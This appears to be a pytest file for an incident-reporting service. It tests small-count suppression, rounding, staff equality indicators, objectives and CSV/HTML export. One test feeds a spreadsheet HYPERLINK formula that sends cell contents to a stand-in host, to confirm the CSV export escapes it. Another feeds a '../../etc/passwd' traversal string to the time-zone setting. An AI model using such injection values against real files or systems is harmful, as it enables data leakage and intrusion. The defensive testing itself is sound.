"""The board view: suppression applied, indicators withheld with their inputs, objectives, CSV and HTML."""

from __future__ import annotations

import csv
import io
import json
import random
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from schemas.events import decode, encode
from schemas.reporting import ReferralCriterion
from services.reporting.config import ReportingSettings
from services.reporting.domain.board import Disclosure, bounds, compute, relations, view
from services.reporting.domain.disclosure import Relation, pinned
from services.reporting.domain.facts import Staff
from services.reporting.domain.metrics import Inputs, Window, row_counts
from services.reporting.domain.objectives import Direction, Objective, assess, status, trend
from services.reporting.entrypoints import to_csv
from services.reporting.pack import COLOURS, render
from services.reporting.publishing import event_for
from tests.unit.test_reporting_disclosure import fixed, given_back
from tests.unit.test_reporting_metrics import decision, fact
from vanda.runtime.settings import explain

JAN, FEB, MAR = (datetime(2025, m, 1, tzinfo=UTC) for m in (1, 2, 3))
MONTHS = [Window("2025-01", JAN, FEB), Window("2025-02", FEB, MAR)]
TOTAL = Window("total", JAN, MAR)
SUPPRESSED = {"suppressed": True}


def build(incidents, decisions=(), raw=False, heads=None, rounding=1):
    disclosure = Disclosure(5, raw, rounding)
    board = compute(Inputs(incidents, list(decisions), {}), MONTHS, TOTAL, disclosure)
    return view(board, disclosure, heads or {}) | {"period": "2025-01 to 2025-02"}


def jan(**kw):
    return fact(occurred_at=JAN + timedelta(days=3), **kw)


def feb(**kw):
    return fact(occurred_at=FEB + timedelta(days=3), **kw)


def sample():
    # January: 6 verbal abuse, 3 weapon; February: 8 verbal abuse, 7 weapon.
    return ([jan() for _ in range(6)] + [jan(category="weapon") for _ in range(3)]
            + [feb() for _ in range(8)] + [feb(category="weapon") for _ in range(7)])


def test_raw_view_shows_every_count():
    body = build(sample(), raw=True)
    assert [m["incidents"] for m in body["months"]] == [9, 15] and body["totals"]["incidents"] == 24
    assert body["totals"]["breakdowns"]["incidents_by_category"] == {"verbal_abuse": 14, "weapon": 10}


def test_small_cell_and_everything_that_would_reveal_it_are_suppressed():
    body = build(sample())
    jan_cats = body["months"][0]["breakdowns"]["incidents_by_category"]
    feb_cats = body["months"][1]["breakdowns"]["incidents_by_category"]
    # Jan weapon (3) is primary; Jan verbal (6) hides it from the January total. February is
    # shown as its own board (its monthly event) shows it, so the period's weapon and verbal
    # totals, sums holding a hidden January count, are what hides it from them.
    assert jan_cats == {"verbal_abuse": SUPPRESSED, "weapon": SUPPRESSED}
    assert feb_cats == {"verbal_abuse": 8, "weapon": 7}
    assert body["totals"]["breakdowns"]["incidents_by_category"] == {"verbal_abuse": SUPPRESSED,
                                                                      "weapon": SUPPRESSED}
    assert [m["incidents"] for m in body["months"]] == [9, 15] and body["suppression"]["threshold"] == 5


def test_no_hidden_count_on_the_board_can_be_worked_out_from_all_it_publishes():
    # Four months by five categories in a pattern where hiding, sum by sum, a second term
    # beside each hidden one still let rows and columns together give a count back.
    per_month = [[3, 3, 6, 9, 9], [3, 8, 6, 12, 20], [5, 3, 0, 1, 12], [6, 2, 12, 3, 5]]
    categories = ["verbal_abuse", "weapon", "physical_assault", "threatening_behaviour", "damage_to_property"]
    months = [Window(f"2025-0{m + 1}", JAN.replace(month=m + 1), JAN.replace(month=m + 2)) for m in range(4)]
    incidents = [fact(occurred_at=w.start + timedelta(days=2), category=c)
                 for w, counts in zip(months, per_month, strict=True)
                 for c, n in zip(categories, counts, strict=True) for _ in range(n)]
    board = compute(Inputs(incidents, [], {}), months, Window("total", JAN, months[-1].end), Disclosure())
    assert given_back(relations(board.cells, board.rows), board.hidden) == set()
    assert fixed(board.cells, relations(board.cells, board.rows), board.hidden) == set()
    assert ("2025-01", "incidents_by_category", "weapon") in board.hidden


def _one_month(incidents):
    board = compute(Inputs(incidents, [], {}), [MONTHS[0]], Window("total", JAN, FEB), Disclosure())
    return board, relations(board.cells, board.rows), bounds(board.cells, board.rows)


def test_a_count_shown_inside_a_hidden_one_does_not_give_a_small_count_back():
    """Filmed at a site is part of the site's incidents; unwanted sexual behaviour's staff by
    ethnic group are some of the staff in each group. A part shown says its hidden whole is at
    least that: with 6 at site A (all filmed), A + B = 7 left B at 1, and with 6 Black staff
    affected by sexual misconduct, Black + Mixed = 7 left one Mixed member of staff."""
    sites = ([jan(site="A", body_worn_camera=True) for _ in range(6)] + [jan(site="B")]
             + [jan(site="C", body_worn_camera=n < 10) for n in range(40)])
    black, mixed, white = ((Staff("nursing_midwifery", g, False, False),) for g in ("black", "mixed", "white"))
    groups = ([jan(category="sexual_misconduct", staff=black) for _ in range(6)] + [jan(staff=mixed)]
              + [jan(staff=white) for _ in range(40)])
    for incidents, small in ((sites, ("total", "incidents_by_site", "B")),
                             (groups, ("total", "staff_affected_by_ethnic_group", "mixed"))):
        board, sums, within = _one_month(incidents)
        assert small in board.hidden
        assert {k for k in fixed(board.cells, sums, board.hidden, within) if board.cells[k] < 5} == set()


def _random_months(seed: int, months: list[Window]) -> Inputs:
    rnd = random.Random(seed)
    return Inputs([fact(occurred_at=w.start + timedelta(days=rnd.randrange(27)), site=rnd.choice("ABC"),
                        category=rnd.choices(["physical_assault", "verbal_abuse", "threatening_behaviour",
                                              "sexual_misconduct", "weapon"], [5, 8, 5, 1, 1])[0],
                        staff=(Staff("nursing_midwifery", rnd.choice(["white", "asian", "black", "mixed"]), False,
                                     False, disability=rnd.choice(["disabled", "not_disabled", "not_stated"]),
                                     sex=rnd.choice(["female", "male"])),),
                        medical_factors=rnd.random() < .2, body_worn_camera=rnd.random() < .5)
                   for w in months for _ in range(rnd.randrange(10, 40))], [], {})


def _what_a_reader_has(inputs: Inputs, months: list[Window]) -> tuple[dict, list[Relation], set]:
    """Every cell of a board of several months and of each month's own board (its monthly event),
    the sums they publish, and the cells neither shows: all a reader holding both can solve."""
    beside = compute(inputs, months, Window("total", months[0].start, months[-1].end), Disclosure())
    cells, found = dict(beside.cells), list(relations(beside.cells, beside.rows))
    shown = beside.cells.keys() - beside.hidden
    for w in months:
        alone = compute(inputs, [w], w, Disclosure())

        def mine(key, w=w):  # the event's figures are the month's: one unknown each, shared with the board
            return (w.label, *key[1:])
        cells |= {mine(k): n for k, n in alone.cells.items() if k[0] == "total"}
        shown |= {mine(k) for k in alone.cells.keys() - alone.hidden if k[0] == "total"}
        found += [Relation(tuple(map(mine, r.members)), mine(r.margin))
                  for r in relations(alone.cells, ["total"]) if r.members]
    # The months' crossed figures (on the events only) add up to the period's (on the board only).
    crossed = {(m, d) for r, m, d in beside.cells if r == "total" and m.startswith("staff_affected_by_ethnic_group_and")}
    found += [Relation(tuple((w.label, m, d) for w in months), ("total", m, d)) for m, d in sorted(crossed)]
    keys = {k for r in found for k in (*r.members, r.margin)}
    cells |= {k: 0 for k in keys if k not in cells}
    return cells, found, {k for k in cells if k not in shown and cells[k]}


# Each gave small counts back before each month was suppressed as on its own board, its
# crossed figures included (the crossed ones even after the rest were).
@pytest.mark.parametrize("seed", [1, 2, 3, 4])
def test_a_month_s_own_board_and_a_longer_one_together_give_no_small_count_back(seed):
    months = [*MONTHS, Window("2025-03", MAR, MAR.replace(month=4))]
    cells, found, hidden = _what_a_reader_has(_random_months(seed, months), months)
    assert {k for k in pinned(cells, found, hidden) if cells[k] < 5} == set()


def test_a_vulnerability_flag_is_not_given_away_by_the_incidents_or_red_cards_without_one():
    # 20 identified, 17 with no flag: shown, 20 - 17 would give the 3 homeless perpetrators back;
    # 8 red cards, 6 with no flag, likewise the 2 on homeless perpetrators.
    plain = [jan(subject_id=f"s{n}") for n in range(17)]
    homeless = [jan(subject_id=f"h{n}", vulnerabilities=("homelessness",)) for n in range(3)]
    reds = [decision("red_card_proposed", JAN + timedelta(days=5), incident_id=f.incident_id)
            for f in plain[:6] + homeless[:2]]
    board = compute(Inputs(plain + homeless, reds, {f.incident_id: f for f in plain + homeless}),
                    MONTHS, TOTAL, Disclosure())
    for measure in ("perpetrator_vulnerability", "red_cards_by_vulnerability"):
        assert {("2025-01", measure, "homelessness"), ("2025-01", measure, "none")} <= board.hidden
    assert given_back(relations(board.cells, board.rows), board.hidden) == set()
    assert fixed(board.cells, relations(board.cells, board.rows), board.hidden) == set()


def test_with_category_criteria_the_police_funnel_does_not_give_a_hidden_category_away():
    # Criteria "weapon" only: meeting them is the weapon count. 20 verbal, 6 weapon, 2 hate,
    # and hiding hate (with its cover) would leave weapon shown as the criteria count: it goes too.
    incidents = ([jan(category="verbal_abuse") for _ in range(20)] + [jan(category="weapon") for _ in range(6)]
                 + [jan(category="hate_incident") for _ in range(2)])
    inputs = Inputs(incidents, [], {}, frozenset({ReferralCriterion.WEAPON}))
    board = compute(inputs, MONTHS, TOTAL, Disclosure())
    published = relations(board.cells, board.rows, inputs.criteria)
    assert given_back(published, board.hidden) == set() and fixed(board.cells, published, board.hidden) == set()
    assert ("2025-01", "incidents_by_category", "hate_incident") in board.hidden
    assert len(relations(board.cells, board.rows)) < len(published)  # the default criteria add no sum


def test_two_categories_of_one_incident_are_not_given_away_by_the_months_total():
    # January: 5 verbal abuse, 1 weapon, 1 damage. Shown 7 and 5 would leave 2 for the two
    # hidden categories, so both would be 1: the 5 is hidden with them.
    incidents = ([fact(occurred_at=JAN + timedelta(days=2), category="verbal_abuse") for _ in range(5)]
                 + [fact(occurred_at=JAN + timedelta(days=3), category=c) for c in ("weapon", "damage_to_property")]
                 + [fact(occurred_at=FEB + timedelta(days=2), category="verbal_abuse") for _ in range(9)])
    board = compute(Inputs(incidents, [], {}), MONTHS, TOTAL, Disclosure())
    jan = {k[2] for k in board.hidden if k[:2] == ("2025-01", "incidents_by_category")}
    assert jan == {"verbal_abuse", "weapon", "damage_to_property"}
    assert fixed(board.cells, relations(board.cells, board.rows), board.hidden) == set()


@settings(max_examples=100, deadline=None)
@given(st.lists(st.tuples(st.integers(0, 59 * 24), st.sampled_from(["verbal_abuse", "weapon", "sexual_misconduct"]),
                          st.booleans()), max_size=40))
def test_the_period_counted_as_its_months_summed_equals_the_period_counted_whole(rows):
    # Hours from 1 January to 1 March, the edges included: each incident in exactly one month.
    incidents = [fact(occurred_at=JAN + timedelta(hours=h), category=c, withdrawn=w) for h, c, w in rows]
    board = compute(Inputs(incidents, [], {}), MONTHS, TOTAL, Disclosure(raw=True))
    whole, *_ = row_counts(Inputs(incidents, [], {}), TOTAL, crossed=True)
    assert {(m, d): n for (r, m, d), n in board.cells.items() if r == "total"} == whole


def test_rounded_counts_are_published_to_the_base_and_raw_reads_stay_exact():
    body = build(sample(), rounding=5)
    assert [m["incidents"] for m in body["months"]] == [10, 15] and body["totals"]["incidents"] == 25
    assert body["totals"]["breakdowns"]["incidents_by_category"] == {"verbal_abuse": SUPPRESSED, "weapon": SUPPRESSED}
    assert body["months"][1]["breakdowns"]["incidents_by_category"] == {"verbal_abuse": 10, "weapon": 5}
    assert body["suppression"]["rounding"] == 5
    # Rounding comes after suppression: what was hidden stays hidden.
    assert body["months"][0]["breakdowns"]["incidents_by_category"]["weapon"] == SUPPRESSED
    raw = build(sample(), raw=True, rounding=5)
    assert raw["totals"]["incidents"] == 24 and raw["suppression"]["rounding"] == 1


def test_with_rounding_a_share_is_made_from_the_rounded_counts():
    # 7 of 22: exact, 0.318 and the shown 20 would give 7 back; rounded, 5 of 20.
    incidents = [jan(medical_factors=True) for _ in range(7)] + [jan() for _ in range(15)]
    assert build(incidents)["totals"]["indicators"]["medical_factors_share"] == round(7 / 22, 3)
    ind = build(incidents, rounding=5)["totals"]["indicators"]
    assert ind["medical_factors_share"] == 0.25


def test_with_rounding_rates_per_1000_staff_use_the_rounded_counts():
    white = Staff("ambulance", "white", False, False)
    incidents = [jan(staff=(white,)) for _ in range(12)]
    heads = {("ambulance", "white", "not_stated", "not_stated"): 1000}
    assert build(incidents, heads=heads)["totals"]["indicators"]["white_staff_affected_per_1000"] == 12.0
    assert build(incidents, heads=heads, rounding=5)["totals"]["indicators"]["white_staff_affected_per_1000"] == 10.0


def _published_counts(body):
    for row in [*body["months"], body["totals"]]:
        yield "incidents", row["incidents"]
        yield from row["incidents_by_site"].items()
        yield from ((d, v) for dims in row["breakdowns"].values() for d, v in dims.items())


@settings(max_examples=60, deadline=None)
@given(st.lists(st.tuples(st.sampled_from(["verbal_abuse", "weapon", "hate_incident"]), st.booleans(),
                          st.sampled_from(["North", "South"])), max_size=40),
       st.sampled_from([1, 2, 5, 10]))
def test_every_published_count_is_a_multiple_of_the_base_and_none_reads_zero_wrongly(rows, base):
    incidents = [(jan if in_jan else feb)(category=c, site=site) for c, in_jan, site in rows]
    rounded, exact = build(incidents, rounding=base), build(incidents)
    for (name, shown), (_, true) in zip(_published_counts(rounded), _published_counts(exact), strict=True):
        if shown == SUPPRESSED:
            assert true == SUPPRESSED, name
            continue
        assert shown % base == 0 and abs(shown - true) <= base / 2, (name, shown, true)
        assert (shown == 0) == (true == 0), (name, shown, true)


def test_a_rounding_base_over_twice_the_threshold_is_refused_naming_the_setting():
    with pytest.raises(ValidationError) as refused:
        ReportingSettings(suppression_threshold=3, rounding_base=10)
    [problem] = explain(refused.value)
    assert problem.startswith("REPORTING_ROUNDING_BASE: must be at most twice the suppression threshold (6)")
    assert ReportingSettings(suppression_threshold=5, rounding_base=10).rounding_base == 10


@pytest.mark.parametrize("zone", ["Europe/Londn", "../../etc/passwd", "", "Europe", "America/Argentina", "x" * 300])
def test_a_time_zone_that_does_not_exist_is_refused_naming_the_setting(zone):
    # Found only when the app is built, it stopped the service with a traceback instead.
    with pytest.raises(ValidationError) as refused:
        ReportingSettings(timezone=zone)
    assert explain(refused.value) == ["REPORTING_TIMEZONE: not a time zone name, such as Europe/London"]
    assert ReportingSettings(timezone="Europe/Belfast").timezone == "Europe/Belfast"


def test_the_published_event_and_the_pack_say_how_counts_were_rounded():
    body = build(sample(), rounding=5)
    event = event_for(JAN.date(), "RZA", body, Disclosure(5, rounding=5), MAR).event
    assert (event.data.rounding_base, event.data.incidents) == (5, 25)
    assert json.loads(encode(event))["data"]["rounding_base"] == 5
    # Exact counts leave the event as subscribers knew it before rounding existed.
    exact = event_for(JAN.date(), "RZA", build(sample()), Disclosure(5), MAR).event
    assert "rounding_base" not in json.loads(encode(exact))["data"]
    assert decode(encode(exact)).data.rounding_base == 1
    assert "rounded to the nearest 5" in render(body | {"objectives": []})
    assert "rounded" not in render(build(sample()) | {"objectives": []})


def test_a_share_is_withheld_when_its_numerator_is():
    incidents = [jan(medical_factors=True) for _ in range(2)] + [jan() for _ in range(10)]
    body = build(incidents)
    assert body["totals"]["indicators"]["medical_factors_share"] == SUPPRESSED
    assert build(incidents, raw=True)["totals"]["indicators"]["medical_factors_share"] == round(2 / 12, 3)


def test_police_rates_on_counts_above_threshold():
    met = [jan(category="physical_assault", police_informed=True, police_outcome="charged") for _ in range(5)]
    met += [jan(category="physical_assault", police_informed=True) for _ in range(5)]
    met += [jan(category="physical_assault") for _ in range(10)]
    ind = build(met)["totals"]["indicators"]
    assert ind["police_referral_rate"] == 0.5 and ind["charge_rate"] == 0.5


def test_ethnic_gap_per_1000_staff_needs_workforce():
    white, black = Staff("ambulance", "white", False, False), Staff("ambulance", "black", False, False)
    incidents = [jan(staff=(white,)) for _ in range(10)] + [jan(staff=(black,)) for _ in range(10)]
    heads = {("ambulance", "white", "not_stated", "not_stated"): 1000,
             ("ambulance", "black", "not_stated", "not_stated"): 500}
    ind = build(incidents, heads=heads)["totals"]["indicators"]
    assert ind["white_staff_affected_per_1000"] == 10.0
    assert ind["ethnic_minority_staff_affected_per_1000"] == 20.0
    assert ind["ethnic_minority_white_gap_per_1000"] == 10.0
    assert ind["ethnic_minority_share_of_staff_affected"] == 0.5 and ind["ethnicity_not_stated_share"] == 0.0
    assert build(incidents)["totals"]["indicators"]["workforce_loaded"] is False
    assert ind["staff_affected_per_1000_by_sex"] == {}  # the load does not state sex
    # A workforce that does not state disability gives no disability rates: undefined, not zero.
    assert ind["disabled_staff_affected_per_1000"] is None and ind["disabled_non_disabled_gap_per_1000"] is None


def test_disability_gap_per_1000_staff_needs_a_workforce_that_states_disability():
    disabled, other = characterised(disability="disabled"), characterised(disability="not_disabled")
    incidents = [jan(staff=(disabled,)) for _ in range(6)] + [jan(staff=(other,)) for _ in range(20)]
    heads = {("nursing_midwifery", "white", "disabled", "not_stated"): 200,
             ("nursing_midwifery", "white", "not_disabled", "not_stated"): 2000,
             ("nursing_midwifery", "white", "not_stated", "not_stated"): 300}
    ind = build(incidents, heads=heads)["totals"]["indicators"]
    assert ind["disabled_staff_affected_per_1000"] == 30.0 and ind["non_disabled_staff_affected_per_1000"] == 10.0
    assert ind["disabled_non_disabled_gap_per_1000"] == 20.0
    assert ind["staff_affected_per_1000_by_staff_group"] == {"nursing_midwifery": 10.4}  # 26 of 2,500
    few = build(incidents[:3] + incidents[6:], heads=heads)["totals"]["indicators"]
    assert few["disabled_staff_affected_per_1000"] == SUPPRESSED
    assert few["disabled_non_disabled_gap_per_1000"] == SUPPRESSED
    # Without disability in the load, a small (hidden) count gives no rate either: undefined, not hidden.
    unstated = {("nursing_midwifery", "white", "not_stated", "not_stated"): 2500}
    none = build(incidents[:3] + incidents[6:], heads=unstated)["totals"]["indicators"]
    assert none["disabled_staff_affected_per_1000"] is None and none["disabled_non_disabled_gap_per_1000"] is None


def test_staff_whose_ethnic_group_is_not_stated_are_left_out_of_the_share_and_counted_beside_it():
    white, unstated = Staff("ambulance", "white", False, False), Staff("ambulance", "not_stated", False, False)
    ind = build([jan(staff=(white,)) for _ in range(15)] + [jan(staff=(unstated,)) for _ in range(5)])
    assert ind["totals"]["indicators"]["ethnicity_not_stated_share"] == 0.25
    assert ind["totals"]["indicators"]["ethnic_minority_share_of_staff_affected"] == 0.0
    few = build([jan(staff=(white,)) for _ in range(15)] + [jan(staff=(unstated,)) for _ in range(2)])
    assert few["totals"]["indicators"]["ethnicity_not_stated_share"] == SUPPRESSED


def test_median_days_to_card_needs_enough_cards():
    few = build([], [decision("yellow_card_1", JAN + timedelta(days=5)) for _ in range(3)])
    many = build([], [decision("yellow_card_1", JAN + timedelta(days=5)) for _ in range(5)])
    assert few["totals"]["indicators"]["median_days_to_card"] == SUPPRESSED
    assert many["totals"]["indicators"]["median_days_to_card"] == 2.0


def test_objective_status_and_trend():
    goal = Objective("police_referral_rate", 0.9, Direction.AT_LEAST)
    assert [status(goal, v) for v in (0.95, 0.85, 0.5, SUPPRESSED)] == ["green", "amber", "red", "unknown"]
    assert trend(goal, [0.5, None, 0.7]) == "improving" and trend(goal, [0.7, 0.6]) == "worsening"
    fewer = Objective("incidents", 10, Direction.AT_MOST)
    assert status(fewer, 12) == "red" and trend(fewer, [12, 9]) == "improving"
    [result] = assess([goal], {"police_referral_rate": 0.95}, [{"police_referral_rate": 0.8}, {}])
    assert result["status"] == "green" and result["series"] == [0.8, None]


@pytest.mark.parametrize(("months", "board_months", "expected"), [
    (3, 3, "green"),              # a quarter's target on a quarter's board
    (1, 3, "other_length"),       # 27 in a quarter says nothing against 10 a month
    (12, 3, "other_length"),
    (None, 3, "green"),           # set before targets had a length: judged as it was
])
def test_a_target_for_a_count_is_judged_only_on_a_board_of_its_length(months, board_months, expected):
    goal = Objective("incidents", 30, Direction.AT_MOST, months=months)
    [result] = assess([goal], {"incidents": 27}, [{"incidents": 9}] * board_months)
    assert result["status"] == expected and result["months"] == months


def test_a_monthly_target_is_judged_month_by_month_and_the_pack_says_how_many_met_it():
    goal = Objective("incidents", 10, Direction.AT_MOST, months=1)
    [result] = assess([goal], {"incidents": 31}, [{"incidents": 9}, {"incidents": 12}, {"incidents": SUPPRESSED}])
    assert result["series_status"] == ["green", "red", "unknown"] and result["status"] == "other_length"
    html = render(build(sample()) | {"objectives": [result], "organisation": None, "site": None})
    assert "at most 10 per month" in html and "1 of 3 months met" in html
    [quarterly] = assess([Objective("incidents", 30, Direction.AT_MOST, months=3)], {"incidents": 31}, [{}] * 3)
    assert quarterly["series_status"] is None


def test_csv_has_one_line_per_cell_and_marks_suppression():
    text = to_csv(build(sample()))
    assert text.splitlines()[0] == "period,row,measure,dimension,value,suppressed"
    assert "2025-01 to 2025-02,2025-01,incidents_by_category,weapon,,true" in text
    assert "2025-01 to 2025-02,total,incidents_by_category,weapon,,true" in text
    assert "2025-01 to 2025-02,2025-02,incidents_by_category,weapon,7,false" in text


def test_csv_marks_a_site_name_that_looks_like_a_formula_as_text():
    site = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'
    text = to_csv(build([jan(site=site) for _ in range(6)]))
    rows = list(csv.reader(io.StringIO(text)))
    sites = [r[3] for r in rows if r[2] == "incidents_by_site"]
    assert sites and all(d == "'" + site for d in sites)
    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)
    for start in ("+", "-", "@", "\t"):
        text = to_csv(build([jan(site=start + "1+1") for _ in range(6)]))
        assert {r[3] for r in csv.reader(io.StringIO(text)) if r[2] == "incidents_by_site"} == {"'" + start + "1+1"}


def test_board_pack_is_self_contained_with_four_charts():
    html = render(build(sample()) | {"objectives": [], "organisation": None, "site": "<b>x</b>"})
    assert html.count("<svg class='chart'") == 4 and all(colour in html for colour in COLOURS.values())
    assert "http://" not in html.replace("http://www.w3.org/2000/svg", "") and "https://" not in html
    assert "<b>x</b>" not in html and "suppressed" in html


def test_the_pack_prints_shares_as_percentages_and_rates_and_days_as_they_are():
    body = build(sample())
    headline = body["totals"]["indicators"] | {"sexual_safety_staff_affected_per_1000": 0.4,
                                               "median_days_to_referral": 0.5, "police_referral_rate": 1.0}
    html = render(body | {"totals": body["totals"] | {"indicators": headline}, "objectives": [],
                          "organisation": None, "site": None})
    assert "<td>sexual safety staff affected per 1000</td><td>0.4</td>" in html
    assert "<td>median days to referral</td><td>0.5</td>" in html
    assert "<td>police referral rate</td><td>100.0%</td>" in html


def characterised(**kw) -> Staff:
    return Staff("nursing_midwifery", "white", False, False, **kw)


def test_each_protected_characteristic_breaks_staff_affected_down_with_its_share_not_stated():
    disabled, not_disabled = characterised(disability="disabled", sex="female"), characterised(disability="not_disabled")
    unstated = characterised()
    both = characterised(disability="disabled", religion="sikh", sexual_orientation="bisexual",
                         gender_identity="different_from_registered_at_birth")
    incidents = ([jan(staff=(disabled,)) for _ in range(6)] + [jan(staff=(not_disabled,)) for _ in range(9)]
                 + [jan(staff=(unstated, both)) for _ in range(5)])
    totals = build(incidents)["totals"]
    by = totals["breakdowns"]
    assert by["staff_affected_by_disability"] == {"disabled": 11, "not_disabled": 9, "not_stated": 5}
    assert by["staff_affected_by_sex"] == {"female": 6, "not_stated": 19}
    assert by["staff_affected_by_religion"] == {"not_stated": 20, "sikh": 5}
    assert by["staff_affected_by_sexual_orientation"] == {"bisexual": 5, "not_stated": 20}
    assert by["staff_affected_by_gender_identity"] == {"different_from_registered_at_birth": 5, "not_stated": 20}
    ind = totals["indicators"]
    # WDES 4a in count form: disabled ÷ those whose disability is stated.
    assert ind["disabled_share_of_staff_affected"] == 0.55
    assert ind["not_stated_share_by_characteristic"] == {
        "ethnic_group": 0.0, "disability": 0.2, "sex": 0.76, "gender_identity": 0.8, "sexual_orientation": 0.8,
        "religion": 0.8}


def test_a_small_characteristic_cell_is_hidden_with_the_cell_that_would_reveal_it():
    # 2 of 20 staff are Jewish: hidden, and so is the smallest other cell, or 20 minus the rest shows it.
    staff = [characterised(religion="jewish")] * 2 + [characterised(religion="christian")] * 8 \
        + [characterised(religion="no_religion")] * 10
    totals = build([jan(staff=(s,)) for s in staff])["totals"]
    assert totals["breakdowns"]["staff_affected_by_religion"] == {
        "christian": SUPPRESSED, "jewish": SUPPRESSED, "no_religion": 10}
    assert totals["breakdowns"]["staff_affected"]["all"] == 20
    few = build([jan(staff=(characterised(disability="disabled"),)) for _ in range(3)]
                + [jan(staff=(characterised(disability="not_disabled"),)) for _ in range(9)])
    assert few["totals"]["indicators"]["disabled_share_of_staff_affected"] == SUPPRESSED


def test_the_pack_shows_each_characteristic_and_how_much_of_it_is_not_stated():
    staff = [characterised(disability="disabled", sex="female")] * 6 + [characterised(disability="not_disabled")] * 9
    html = render(build([jan(staff=(s,)) for s in staff]) | {"objectives": [], "organisation": None, "site": None})
    section = html[html.index("Staff affected by protected characteristic"):]
    assert "<td>disability: disabled</td><td>6</td>" in section and "<td>sex: female</td><td>6</td>" in section
    assert "<td>sex: share not stated</td><td>60.0%</td>" in section
    assert "<td>disabled share of staff affected (stated)</td><td>40.0%</td>" in section
    assert "religion: not stated" not in section  # said as a share, not a row


def staffed(group, n, **kw):
    return [jan(staff=(Staff("nursing_midwifery", group, False, False, **kw),)) for _ in range(n)]


def test_ethnicity_is_crossed_with_each_other_characteristic_for_the_period_only():
    body = build(staffed("black", 6, sex="female") + staffed("black", 8, sex="male")
                 + staffed("white", 7, sex="female", disability="disabled") + staffed("white", 9))
    crossed = body["totals"]["breakdowns"]
    assert crossed["staff_affected_by_ethnic_group_and_sex"] == {
        "black/female": 6, "black/male": 8, "white/female": 7, "white/not_stated": 9}
    assert crossed["staff_affected_by_ethnic_group_and_disability"] == {
        "black/not_stated": 14, "white/disabled": 7, "white/not_stated": 9}
    assert crossed["staff_affected_by_ethnic_group_and_religion"] == {"black/not_stated": 14, "white/not_stated": 16}
    assert not any("_and_" in m for month in body["months"] for m in month["breakdowns"])


def test_a_small_crossed_cell_is_hidden_with_every_cell_that_would_give_it_back():
    # 2 Black women: their row (Black, 10) and column (female, 9) are shown, so the cells beside
    # them go, and then the cells beside those.
    incidents = (staffed("black", 2, sex="female") + staffed("black", 8, sex="male")
                 + staffed("white", 7, sex="female") + staffed("white", 9, sex="male"))
    totals = build(incidents)["totals"]["breakdowns"]
    assert totals["staff_affected_by_ethnic_group_and_sex"] == dict.fromkeys(
        ("black/female", "black/male", "white/female", "white/male"), SUPPRESSED)
    assert totals["staff_affected_by_sex"] == {"female": 9, "male": 17}
    assert totals["staff_affected_by_ethnic_group"] == {"black": 10, "white": 16}
    board = compute(Inputs(incidents, [], {}), MONTHS, TOTAL, Disclosure())
    assert given_back(relations(board.cells, board.rows), board.hidden) == set()
    assert fixed(board.cells, relations(board.cells, board.rows), board.hidden) == set()
    assert ("total", "staff_affected_by_ethnic_group_and_sex", "black/female") in board.hidden


def test_rates_per_1000_cross_ethnic_group_with_disability_and_sex_for_the_period_only():
    body = build(staffed("black", 6, sex="female", disability="disabled") + staffed("black", 8, sex="male")
                 + staffed("white", 7, sex="female", disability="disabled") + staffed("white", 9, sex="female"),
                 heads={("nursing_midwifery", "black", "disabled", "female"): 200,
                        ("nursing_midwifery", "black", "not_disabled", "male"): 400,
                        ("nursing_midwifery", "white", "disabled", "female"): 100,
                        ("nursing_midwifery", "white", "not_disabled", "female"): 900,
                        ("nursing_midwifery", "white", "not_stated", "male"): 300})
    ind = body["totals"]["indicators"]
    # 6 of 200 disabled Black staff against 7 of 100 disabled white staff; Black staff whose
    # disability is not stated in the incidents count nowhere here, and are in post as not disabled.
    assert ind["staff_affected_per_1000_by_ethnic_group_and_disability"] == {
        "black/disabled": 30.0, "black/not_disabled": 0.0, "white/disabled": 70.0, "white/not_disabled": 0.0}
    assert ind["staff_affected_per_1000_by_ethnic_group_and_sex"] == {
        "black/female": 30.0, "black/male": 20.0, "white/female": 16.0, "white/male": 0.0}
    assert not any("_and_" in name for month in body["months"] for name in month["indicators"])
    # 2 Black women: their count is hidden, and with it the three beside it, so every rate is too.
    small = build(staffed("black", 2, sex="female") + staffed("black", 8, sex="male")
                  + staffed("white", 7, sex="female") + staffed("white", 9, sex="male"),
                  heads={("nursing_midwifery", g, "not_stated", s): 100 for g in ("black", "white")
                         for s in ("female", "male")})["totals"]["indicators"]
    assert small["staff_affected_per_1000_by_ethnic_group_and_sex"] == dict.fromkeys(
        ("black/female", "black/male", "white/female", "white/male"), SUPPRESSED)
    assert small["staff_affected_per_1000_by_ethnic_group_and_disability"] == {}  # not stated in the load
    without = build(staffed("black", 6, sex="female"))["totals"]["indicators"]
    assert not any("_and_" in name for name in without)  # no workforce, no rates


def test_the_pack_crosses_ethnic_group_with_each_characteristic_stated():
    body = build(staffed("black", 6, sex="female") + staffed("white", 7, sex="male") + staffed("white", 5))
    html = render(body | {"objectives": [], "organisation": None, "site": None})
    section = html[html.index("Staff affected by ethnic group and another characteristic"):]
    assert "<h3>ethnic group by sex</h3>" in section and "<h3>ethnic group by religion</h3>" not in section
    assert "<tr><td>black</td><td>6</td><td>0</td><td>0</td></tr>" in section
    assert "<tr><td>white</td><td>0</td><td>7</td><td>5</td></tr>" in section


def test_sexual_safety_counts_the_staff_it_fell_on_by_sex_ethnic_group_and_staff_group():
    woman = Staff("nursing_midwifery", "black", False, False, sex="female")
    man = Staff("ambulance", "white", False, False, sex="male")
    sexual = [jan(category="sexual_misconduct", staff=(woman,)) for _ in range(6)] + [
        jan(category="sexual_misconduct", staff=(woman, man)) for _ in range(5)]
    heads = {("nursing_midwifery", "black", "not_stated", "female"): 500,
             ("ambulance", "white", "not_stated", "male"): 1000}
    body = build(sexual + [jan(staff=(man,)) for _ in range(7)], heads=heads)
    by, ind = body["totals"]["breakdowns"], body["totals"]["indicators"]
    assert by["staff_affected_by_category"] == {"sexual_misconduct": 16, "verbal_abuse": 7}
    assert by["sexual_safety_staff_by_sex"] == {"female": 11, "male": 5}
    assert by["sexual_safety_staff_by_ethnic_group"] == {"black": 11, "white": 5}
    assert by["sexual_safety_staff_by_staff_group"] == {"ambulance": 5, "nursing_midwifery": 11}
    assert ind["sexual_safety_staff_affected_per_1000"] == round(16 / 1500 * 1000, 1)
    assert ind["sexual_safety_staff_affected_per_1000_by_ethnic_group"] == {"black": 22.0, "white": 5.0}
    assert ind["sexual_safety_ethnic_minority_white_gap_per_1000"] == 17.0
